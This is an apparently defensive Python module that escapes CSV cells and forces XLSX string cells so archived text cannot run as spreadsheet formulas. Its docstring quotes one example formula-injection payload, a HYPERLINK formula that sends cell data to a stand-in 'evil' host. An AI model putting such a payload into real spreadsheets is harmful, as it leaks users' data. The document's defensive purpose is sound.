"""Every CSV and XLSX cell Capstone writes, made inert for spreadsheet programs.

A mail subject or an official's name such as ``=HYPERLINK("http://evil/?"&A1)`` must stay text
(formula injection, CWE-1236). As OWASP recommends, a CSV cell starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return gets a leading single quote; an XLSX cell is always written as a
string cell (never a formula), so its text stays exactly what was archived. Numbers given as ``int``
stay numbers in XLSX.

Example::

    writer.writerow(csv_row(values))               # csv module
    sheet.append(xlsx_row(sheet, values))           # openpyxl, write-only or normal sheet
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> str:
    """The text of one CSV cell: ``value`` as text, with a leading ``'`` when a spreadsheet would
    read it as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def csv_row(values: Iterable[object]) -> list[str]:
    return [csv_cell(v) for v in values]


def csv_text(value: str) -> str:
    """The inverse of :func:`csv_cell` for a cell Capstone wrote (a re-imported export)."""
    return value[1:] if value.startswith("'") and value[1:].startswith(FORMULA_TRIGGERS) else value


def xlsx_row(sheet: Any, values: Iterable[object]) -> list[Any]:
    """Cells for ``sheet.append``: every ``str`` as a string cell (``data_type = "s"``), so a
    value starting with ``=`` is text and never a formula; ints and floats stay numbers."""
    from openpyxl.cell import WriteOnlyCell

    cells: list[Any] = []
    for value in values:
        if isinstance(value, bool) or not isinstance(value, int | float):
            cell = WriteOnlyCell(sheet, value="" if value is None else str(value))
            cell.data_type = "s"
        else:
            cell = WriteOnlyCell(sheet, value=value)
        cells.append(cell)
    return cells
